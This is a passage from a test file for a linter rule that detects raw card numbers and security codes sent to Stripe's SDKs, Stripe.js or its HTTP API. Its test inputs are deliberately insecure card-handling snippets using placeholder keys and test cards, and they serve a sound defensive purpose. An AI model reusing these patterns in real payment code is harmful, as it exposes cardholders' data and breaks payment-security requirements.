          endLine: 7,
          endColumn: 130,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.charges.create', what: 'card number (PAN)', field: 'source.number' },
          line: 8,
          column: 89,
          endLine: 8,
          endColumn: 95,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.charges.create', what: 'card security code (CVC)', field: 'source.cvc' },
          line: 8,
          column: 106,
          endLine: 8,
          endColumn: 109,
          suggestions: [],
        },
      ],
    },
    {
      // v1-era charges.create({ card }) and old customers.createCard, callback style
      code: `
var stripe = require('stripe')('sk_test_BQokikJOvBiI2HlWgH4olfQ2');
stripe.charges.create({ amount: 400, currency: 'usd', card: { number: '4000000000000077', exp_month: 12, exp_year: 2030 } }, function (err, charge) {});
stripe.customers.createCard('cus_123', { card: { number: cardNumber, exp_month: 12, exp_year: 2030 } }, function (err, card) {});
stripe.recipients.create({ name: 'John', type: 'individual', card: { number: cardNumber, exp_month: 1, exp_year: 2030 } });
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.charges.create', what: 'card number (PAN)', field: 'card.number' },
          line: 3,
          column: 63,
          endLine: 3,
          endColumn: 69,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.createCard', what: 'card number (PAN)', field: 'card.number' },
          line: 4,
          column: 50,
          endLine: 4,
          endColumn: 56,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.recipients.create', what: 'card number (PAN)', field: 'card.number' },
          line: 5,
          column: 70,
          endLine: 5,
          endColumn: 76,
          suggestions: [],
        },
      ],
    },
    {
      // stripe-node v1 singular `stripe.token.create(data, cb)`
      code: `
var stripe = require('stripe')(apiKey);
stripe.token.create({ card: { number: form.number, exp_month: form.month, exp_year: form.year } }, function (err, token) {
  done(err, token && token.id);
});
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.token.create', what: 'card number (PAN)', field: 'card.number' },
          line: 3,
          column: 31,
          endLine: 3,
          endColumn: 37,
          suggestions: [],
        },
      ],
    },
    {
      // Connect payouts: a debit card given when the account is created (real-world batch 240), with the SDK and as raw
      // HTTP; a bank account's number is no card's
      code: `
const Stripe = require('stripe');
const stripe = Stripe(process.env.STRIPE_SECRET_KEY);
exports.onboard = async (req, res) => {
  const { number, exp_month, exp_year, cvc } = req.body.debitCard;
  const account = await stripe.accounts.create({ type: 'custom', country: 'US', external_account: { object: 'card', number, exp_month, exp_year, cvc } });
  await fetch('https://api.stripe.com/v1/accounts', { method: 'POST', headers: { Authorization: \`Bearer \${process.env.STRIPE_SECRET_KEY}\` }, body: new URLSearchParams({ 'external_account[object]': 'card', 'external_account[number]': number }) });
  await stripe.accounts.create({ type: 'custom', external_account: { object: 'bank_account', country: 'US', currency: 'usd', account_number: req.body.accountNumber, routing_number: req.body.routingNumber } });
  res.json({ id: account.id });
};
`,
      output: null,
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.accounts.create', what: 'card number (PAN)', field: 'external_account.number' }, line: 6, column: 117, endLine: 6, endColumn: 123, suggestions: [] },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.accounts.create', what: 'card security code (CVC)', field: 'external_account.cvc' }, line: 6, column: 146, endLine: 6, endColumn: 149, suggestions: [] },
        { messageId: 'rawCardOverHttp', data: { client: 'fetch', endpoint: 'POST /v1/accounts', field: 'external_account[number]', what: 'card number (PAN)' }, line: 7, column: 206, endLine: 7, endColumn: 232 },
      ],
    },
    {
      // Connect payouts: external_account debit card
      code: `
import Stripe = require('stripe');
const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);
export async function addPayoutCard(accountId: string, debit: { number: string; cvc: string }) {
  await stripe.accounts.createExternalAccount(accountId, { external_account: { object: 'card', number: debit.number, exp_month: 8, exp_year: 2031, currency: 'usd' } } as any);
  await stripe.accounts.update(accountId, { external_account: { object: 'card', number: debit.number, cvc: debit.cvc, exp_month: 8, exp_year: 2031 } });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.accounts.createExternalAccount', what: 'card number (PAN)', field: 'external_account.number' },
          line: 5,
          column: 96,
          endLine: 5,
          endColumn: 102,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.accounts.update', what: 'card number (PAN)', field: 'external_account.number' },
          line: 6,
          column: 81,
          endLine: 6,
          endColumn: 87,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.accounts.update', what: 'card security code (CVC)', field: 'external_account.cvc' },
          line: 6,
          column: 103,
          endLine: 6,
          endColumn: 106,
          suggestions: [],
        },
      ],
    },
    {
      // NestJS service with an injected Stripe client
      code: `
import { Inject, Injectable } from '@nestjs/common';
import Stripe from 'stripe';

export class SaveCardDto {
  cardNumber!: string;
  cvc!: string;
  expMonth!: number;
  expYear!: number;
}

@Injectable()
export class BillingService {
  constructor(@Inject('STRIPE_CLIENT') private readonly stripe: Stripe) {}

  async saveCard(dto: SaveCardDto): Promise<string> {
    const pm = await this.stripe.paymentMethods.create({
      type: 'card',
      card: { number: dto.cardNumber, cvc: dto.cvc, exp_month: dto.expMonth, exp_year: dto.expYear },
    });
    return pm.id;
  }
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 19,
          column: 15,
          endLine: 19,
          endColumn: 21,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 19,
          column: 39,
          endLine: 19,
          endColumn: 42,
          suggestions: [],
        },
      ],
    },
    {
      // optional chains, TS wrappers, numeric literals, bracket keys, aliases and factories
      code: `
import Stripe from 'stripe';
let client: Stripe | null = null;
function getStripe() {
  if (!client) client = new Stripe(process.env.STRIPE_SECRET_KEY!);
  return client;
}
const stripe = getStripe();
stripe?.tokens?.create({ card: { number: body.number as string, cvc: body.cvc!, exp_month: 1, exp_year: 2030 } } satisfies Stripe.TokenCreateParams);
getStripe().tokens['create']({ card: { ['number']: 4242424242424242, cvc: 333, exp_month: 12, exp_year: 2030 } });
const { paymentMethods } = stripe;
paymentMethods.create({ type: 'card', card: { number: body.number } });
const intents = stripe.paymentIntents;
intents.create({ amount: 1, currency: 'usd', payment_method_data: { type: 'card', card: { 'cvc': body.cvc } } });
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' },
          line: 9,
          column: 34,
          endLine: 9,
          endColumn: 40,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 9,
          column: 65,
          endLine: 9,
          endColumn: 68,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' },
          line: 10,
          column: 41,
          endLine: 10,
          endColumn: 49,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 10,
          column: 70,
          endLine: 10,
          endColumn: 73,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 12,
          column: 47,
          endLine: 12,
          endColumn: 53,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.create', what: 'card security code (CVC)', field: 'payment_method_data.card.cvc' },
          line: 14,
          column: 91,
          endLine: 14,
          endColumn: 96,
          suggestions: [],
        },
      ],
    },
    {
      // receiver named like Stripe that cannot be resolved
      code: `
export function register(app) {
  app.post('/cards', async (req, res) => {
    const { stripe } = req.app.locals;
    await req.app.locals.stripe.tokens.create({ card: { number: req.body.number, exp_month: 1, exp_year: 2030 } });
    await stripe.customers.create({ source: { object: 'card', number: req.body.number } });
    res.end();
  });
}
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' },
          line: 5,
          column: 57,
          endLine: 5,
          endColumn: 63,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.create', what: 'card number (PAN)', field: 'source.number' },
          line: 6,
          column: 63,
          endLine: 6,
          endColumn: 69,
          suggestions: [],
        },
      ],
    },
    {
      // React Native: the form body built with lodash's map over the card hash (real-world batch AO)
      code: `import _ from 'lodash';

export const createCardToken = (number, expMonth, expYear, cvc, publishableKey) => {
  const fields = { 'card[number]': number, 'card[exp_month]': expMonth, 'card[exp_year]': expYear, 'card[cvc]': cvc };
  const body = _.map(fields, (value, key) => \`\${encodeURIComponent(key)}=\${encodeURIComponent(value)}\`).join('&');
  return fetch('https://api.stripe.com/v1/tokens', {
    method: 'post',
    headers: { Authorization: \`Bearer \${publishableKey}\`, 'Content-Type': 'application/x-www-form-urlencoded' },
    body,
  }).then((response) => response.json());
};
`,
      filename: 'src/common/stripe.js',
      output: null,
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 4, column: 20, endLine: 4, endColumn: 34 },
        { messageId: 'rawCardOverHttp', data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' }, line: 4, column: 100, endLine: 4, endColumn: 111 },
      ],
    },
    {
      // A client held in a private field (real-world batches 278 and 279)
      code: `import Stripe from 'stripe';

export class CardVault {
  #stripe = new Stripe(process.env.STRIPE_SECRET_KEY!);

  tokenize(number: string, cvc: string) {
    return this.#stripe.tokens.create({ card: { number, cvc, exp_month: 12, exp_year: 2030 } });
  }
}`,
      filename: 'src/card-vault.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' },
          line: 7,
          column: 49,
          endLine: 7,
          endColumn: 55,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 7,
          column: 57,
          endLine: 7,
          endColumn: 60,
          suggestions: [],
        },
      ],
    },
    {
      // Angular's immutable HttpParams, set in a chain (real-world batch 278: two Angular services in the code index)
      code: `import { Injectable } from '@angular/core';
import { HttpClient, HttpParams } from '@angular/common/http';

@Injectable({ providedIn: 'root' })
export class StripeTokenService {
  constructor(private http: HttpClient) {}

  createToken(values: { number: string; cvc: string }) {
    const body = new HttpParams()
      .set('card[number]', values.number)
      .set('card[cvc]', values.cvc);
    return this.http.post('https://api.stripe.com/v1/tokens', body.toString(), {
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    });
  }
}`,
      filename: 'src/app/stripe-token.service.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'HttpClient', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 10,
          column: 12,
          endLine: 10,
          endColumn: 26,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'HttpClient', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 11,
          column: 12,
          endLine: 11,
          endColumn: 23,
          suggestions: [],
        },
      ],
    },
    {
      // The stock React Native snippet (real-world batch 278): the form body filled in a \`for…in\` over the card's bracket
      // keys and joined in place; and react-native-stripe-api's, the bracket put around each key by the map's callback
      code: `
export async function getCardToken(values, publishableKey) {
  const cardDetails = {
    'card[number]': values.number,
    'card[exp_month]': values.expMonth,
    'card[exp_year]': values.expYear,
    'card[cvc]': values.cvc,
  };
  let formBody = [];
  for (const property in cardDetails) {
    formBody.push(encodeURIComponent(property) + '=' + encodeURIComponent(cardDetails[property]));
  }
  formBody = formBody.join('&');
  const response = await fetch('https://api.stripe.com/v1/tokens', {
    method: 'post',
    headers: { Authorization: \`Bearer \${publishableKey}\`, 'Content-Type': 'application/x-www-form-urlencoded' },
    body: formBody,
  });
  return response.json();
}

export function createCardToken(props, publishableKey) {
  const body = Object.entries(props).map(([key, value]) => \`card[\${key}]=\${value}\`).join('&');
  return fetch('https://api.stripe.com/v1/tokens', { method: 'POST', headers: { Authorization: \`Bearer \${publishableKey}\` }, body });
}

createCardToken({ number: form.number, exp_month: form.month, exp_year: form.year, cvc: form.cvc }, key);
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 4,
          column: 5,
          endLine: 4,
          endColumn: 19,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 7,
          column: 5,
          endLine: 7,
          endColumn: 16,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 27,
          column: 19,
          endLine: 27,
          endColumn: 25,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 27,
          column: 84,
          endLine: 27,
          endColumn: 87,
          suggestions: [],
        },
      ],
    },
    {
      // React Native: fetch with a hand-built form body (stripe-facts §1.5)
      code: `
const STRIPE_PUBLISHABLE_KEY = 'pk_test_123';
export async function createToken(n, m, y, c) {
  const card = { 'card[number]': n, 'card[exp_month]': m, 'card[exp_year]': y, 'card[cvc]': c };
  const response = await fetch('https://api.stripe.com/v1/tokens', {
    method: 'post',
    headers: { Authorization: \`Bearer \${STRIPE_PUBLISHABLE_KEY}\`, 'Content-Type': 'application/x-www-form-urlencoded' },
    body: Object.keys(card).map((k) => k + '=' + card[k]).join('&'),
  });
  return response.json();
}
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 4,
          column: 18,
          endLine: 4,
          endColumn: 32,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 4,
          column: 80,
          endLine: 4,
          endColumn: 91,
          suggestions: [],
        },
      ],
    },
    {
      // axios + qs.stringify of a nested object; axios + bracket keys; axios config form
      code: `
import axios from 'axios';
import qs from 'qs';
export async function tokenize(number: string, exp_month: number, exp_year: number, cvc: string, cvv: string) {
  await axios.post('https://api.stripe.com/v1/payment_methods', qs.stringify({ type: 'card', card: { number, exp_month, exp_year, cvc } }), {
    headers: { Authorization: 'Bearer sk_test_123' },
  });
  await axios.post('https://api.stripe.com/v1/tokens', { 'card[number]': number, 'card[cvc]': cvv, 'card[exp_month]': exp_month });
  await axios({ method: 'post', url: 'https://api.stripe.com/v1/charges', data: new URLSearchParams({ amount: '100', 'source[number]': number }) });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/payment_methods', what: 'card number (PAN)', field: 'card[number]' },
          line: 5,
          column: 102,
          endLine: 5,
          endColumn: 108,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/payment_methods', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 5,
          column: 131,
          endLine: 5,
          endColumn: 134,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 8,
          column: 58,
          endLine: 8,
          endColumn: 72,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 8,
          column: 82,
          endLine: 8,
          endColumn: 93,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/charges', what: 'card number (PAN)', field: 'source[number]' },
          line: 9,
          column: 118,
          endLine: 9,
          endColumn: 134,
          suggestions: [],
        },
      ],
    },
    {
      // axios instance with baseURL; path with an id; JSON body
      code: `
import axios from 'axios';
const stripeApi = axios.create({ baseURL: 'https://api.stripe.com/v1', auth: { username: process.env.STRIPE_KEY!, password: '' } });
export async function confirm(id: string, card: { number: string; cvc: string }) {
  await stripeApi.post(\`/payment_intents/\${id}/confirm\`, new URLSearchParams({ 'payment_method_data[type]': 'card', 'payment_method_data[card][number]': card.number }));
  await stripeApi.post(\`/customers/\${id}/sources\`, JSON.stringify({ source: { object: 'card', cvc: card.cvc } }));
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/payment_intents/{id}/confirm', what: 'card number (PAN)', field: 'payment_method_data[card][number]' },
          line: 5,
          column: 117,
          endLine: 5,
          endColumn: 152,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'axios', endpoint: 'POST /v1/customers/{id}/sources', what: 'card security code (CVC)', field: 'source[cvc]' },
          line: 6,
          column: 95,
          endLine: 6,
          endColumn: 98,
          suggestions: [],
        },
      ],
    },
    {
      // fetch + URLSearchParams with appends; node-fetch; got; request; superagent; needle; ky; undici
      code: `
import nodeFetch from 'node-fetch';
import got from 'got';
import request from 'request';
import superagent from 'superagent';
import needle from 'needle';
import ky from 'ky';
import { request as undiciRequest } from 'undici';
const TOKENS = 'https://api.stripe.com/v1/tokens';
export async function all(card: { number: string; cvc: string }) {
  const params = new URLSearchParams();
  params.append('card[number]', card.number);
  await fetch(TOKENS, { method: 'POST', body: params });
  await nodeFetch(TOKENS, { method: 'POST', body: \`card[number]=\${card.number}&card[cvc]=\${card.cvc}\` });
  await got.post(TOKENS, { form: { card: { number: card.number } } });
  request.post({ url: TOKENS, form: { 'card[cvc]': card.cvc } }, () => {});
  await superagent.post(TOKENS).type('form').send({ 'card[number]': card.number });
  needle.post(TOKENS, { card: { number: card.number } }, {}, () => {});
  await ky.post(TOKENS, { body: new URLSearchParams({ 'card[number]': card.number }) });
  await undiciRequest(TOKENS, { method: 'POST', body: 'card[number]=' + card.number });
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 12,
          column: 17,
          endLine: 12,
          endColumn: 31,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN) and card security code (CVC)', field: 'card[number], card[cvc]' },
          line: 14,
          column: 51,
          endLine: 14,
          endColumn: 102,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'got', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 15,
          column: 44,
          endLine: 15,
          endColumn: 50,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'request-library', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 16,
          column: 39,
          endLine: 16,
          endColumn: 50,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'superagent', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 17,
          column: 53,
          endLine: 17,
          endColumn: 67,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'needle', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 18,
          column: 33,
          endLine: 18,
          endColumn: 39,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'ky', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 19,
          column: 55,
          endLine: 19,
          endColumn: 69,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'undici', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' },
          line: 20,
          column: 55,
          endLine: 20,
          endColumn: 84,
          suggestions: [],
        },
      ],
    },
    {
      // https.request with querystring body written later
      code: `
const https = require('https');
const querystring = require('querystring');
function charge(cardNumber, cvc) {
  const postData = querystring.stringify({ amount: 100, currency: 'usd', 'card[number]': cardNumber, 'card[cvc]': cvc });
  const req = https.request({ hostname: 'api.stripe.com', path: '/v1/charges', method: 'POST', auth: process.env.STRIPE_KEY + ':' }, (res) => {});
  req.write(postData);
  req.end();
}
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'Node http', endpoint: 'POST /v1/charges', what: 'card number (PAN)', field: 'card[number]' },
          line: 5,
          column: 74,
          endLine: 5,
          endColumn: 88,
          suggestions: [],
        },
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'Node http', endpoint: 'POST /v1/charges', what: 'card security code (CVC)', field: 'card[cvc]' },
          line: 5,
          column: 102,
          endLine: 5,
          endColumn: 113,
          suggestions: [],
        },
      ],
    },
    {
      // React component with useStripe and its own card inputs
      code: `
import { useState } from 'react';
import { useStripe } from '@stripe/react-stripe-js';

export function PayForm({ clientSecret }: { clientSecret: string }) {
  const stripe = useStripe();
  const [cardNumber, setCardNumber] = useState('');
  const [cvc, setCvc] = useState('');
  async function pay() {
    const { paymentMethod } = await stripe!.createPaymentMethod({
      type: 'card',
      card: { number: cardNumber, cvc, exp_month: 12, exp_year: 2030 } as any,
    });
    await stripe!.confirmCardPayment(clientSecret, { payment_method: { card: { number: cardNumber, cvc } } as any });
    return paymentMethod;
  }
  return <input value={cardNumber} onChange={(e) => setCardNumber(e.target.value)} onBlur={pay} />;
}
`,
      filename: 'PayForm.tsx',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createPaymentMethod', what: 'card number (PAN)', field: 'card.number' },
          line: 12,
          column: 15,
          endLine: 12,
          endColumn: 21,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createPaymentMethod', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 12,
          column: 35,
          endLine: 12,
          endColumn: 38,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'confirmCardPayment', what: 'card number (PAN)', field: 'payment_method.card.number' },
          line: 14,
          column: 80,
          endLine: 14,
          endColumn: 86,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'confirmCardPayment', what: 'card security code (CVC)', field: 'payment_method.card.cvc' },
          line: 14,
          column: 100,
          endLine: 14,
          endColumn: 103,
          suggestions: [],
        },
      ],
    },
    {
      // loadStripe instance: createToken, confirmCardSetup, createSource with plain objects
      code: `
import { loadStripe } from '@stripe/stripe-js';
const stripePromise = loadStripe('pk_test_123');
export async function save(form: HTMLFormElement, clientSecret: string) {
  const stripe = await stripePromise;
  const number = form.cardNumber.value;
  await stripe.createToken({ number, cvc: form.cvc.value, exp_month: 1, exp_year: 2030 } as any);
  await stripe.confirmCardSetup(clientSecret, { payment_method: { card: { number, exp_month: 1, exp_year: 2030 } } } as any);
  await stripe.createSource({ type: 'card', card: { number, cvc: form.cvc.value } } as any);
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card number (PAN)', field: 'number' },
          line: 7,
          column: 30,
          endLine: 7,
          endColumn: 36,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card security code (CVC)', field: 'cvc' },
          line: 7,
          column: 38,
          endLine: 7,
          endColumn: 41,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'confirmCardSetup', what: 'card number (PAN)', field: 'payment_method.card.number' },
          line: 8,
          column: 75,
          endLine: 8,
          endColumn: 81,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createSource', what: 'card number (PAN)', field: 'card.number' },
          line: 9,
          column: 53,
          endLine: 9,
          endColumn: 59,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createSource', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 9,
          column: 61,
          endLine: 9,
          endColumn: 64,
          suggestions: [],
        },
      ],
    },
    {
      // global Stripe(pk) v3 instance in a plain script
      code: `
var stripe = window.Stripe('pk_test_123');
document.querySelector('form').addEventListener('submit', function () {
  stripe.createToken({ number: document.getElementById('cc-number').value, cvc: document.getElementById('cc-cvc').value });
});
`,
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card number (PAN)', field: 'number' },
          line: 4,
          column: 24,
          endLine: 4,
          endColumn: 30,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card security code (CVC)', field: 'cvc' },
          line: 4,
          column: 76,
          endLine: 4,
          endColumn: 79,
          suggestions: [],
        },
      ],
    },
    {
      // react-stripe-elements misuse: injected stripe prop given the raw fields (JSX, espree)
      code: `
import React from 'react';
import { injectStripe } from 'react-stripe-elements';
class CardForm extends React.Component {
  handleSubmit = async (event) => {
    event.preventDefault();
    const { cardNumber, cvc, expMonth, expYear } = this.state;
    const { token } = await this.props.stripe.createToken({ number: cardNumber, cvc, exp_month: expMonth, exp_year: expYear });
    this.props.onToken(token);
  };
  render() {
    return <form onSubmit={this.handleSubmit}><input name="cardNumber" /></form>;
  }
}
export default injectStripe(CardForm);
`,
      filename: 'CardForm.jsx',
      languageOptions: { parser: espree, parserOptions: { ecmaFeatures: { jsx: true } } },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card number (PAN)', field: 'number' },
          line: 8,
          column: 61,
          endLine: 8,
          endColumn: 67,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card security code (CVC)', field: 'cvc' },
          line: 8,
          column: 81,
          endLine: 8,
          endColumn: 84,
          suggestions: [],
        },
      ],
    },
    {
      // test file: payment_method_data with a documented test card → pm_card_visa
      code: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_TEST_KEY!);
it('charges a card', async () => {
  const intent = await stripe.paymentIntents.create({
    amount: 1000,
    currency: 'usd',
    confirm: true,
    payment_method_data: { type: 'card', card: { number: '4242424242424242', exp_month: 12, exp_year: 2034, cvc: '123' } },
  });
  expect(intent.status).toBe('succeeded');
});
`,
      filename: 'payments.test.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.create', what: 'card number (PAN)', field: 'payment_method_data.card.number' },
          line: 9,
          column: 50,
          endLine: 9,
          endColumn: 56,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'PaymentMethod', id: 'pm_card_visa' },
              output: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_TEST_KEY!);
it('charges a card', async () => {
  const intent = await stripe.paymentIntents.create({
    amount: 1000,
    currency: 'usd',
    confirm: true,
    payment_method: 'pm_card_visa',
  });
  expect(intent.status).toBe('succeeded');
});
`,
            },
          ],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentIntents.create', what: 'card security code (CVC)', field: 'payment_method_data.card.cvc' },
          line: 9,
          column: 109,
          endLine: 9,
          endColumn: 112,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'PaymentMethod', id: 'pm_card_visa' },
              output: `
import Stripe from 'stripe';
const stripe = new Stripe(process.env.STRIPE_TEST_KEY!);
it('charges a card', async () => {
  const intent = await stripe.paymentIntents.create({
    amount: 1000,
    currency: 'usd',
    confirm: true,
    payment_method: 'pm_card_visa',
  });
  expect(intent.status).toBe('succeeded');
});
`,
            },
          ],
        },
      ],
    },
    {
      // spec file: paymentMethods.create with Mastercard → card: { token: "tok_mastercard" }, quotes kept
      code: `
import Stripe from 'stripe';
const stripe = new Stripe("sk_test_123");
describe("wallet", () => {
  it("adds a card", async () => {
    const pm = await stripe.paymentMethods.create({ type: "card", card: { number: "5555 5555 5555 4444", exp_month: 1, exp_year: 2034, cvc: "314" } });
    expect(pm.card?.brand).toBe("mastercard");
  });
});
`,
      filename: 'wallet.spec.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 6,
          column: 75,
          endLine: 6,
          endColumn: 81,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'token', id: 'tok_mastercard' },
              output: `
import Stripe from 'stripe';
const stripe = new Stripe("sk_test_123");
describe("wallet", () => {
  it("adds a card", async () => {
    const pm = await stripe.paymentMethods.create({ type: "card", card: { token: "tok_mastercard" } });
    expect(pm.card?.brand).toBe("mastercard");
  });
});
`,
            },
          ],
        },
        {
          messageId: 'rawCardToStripeApi',
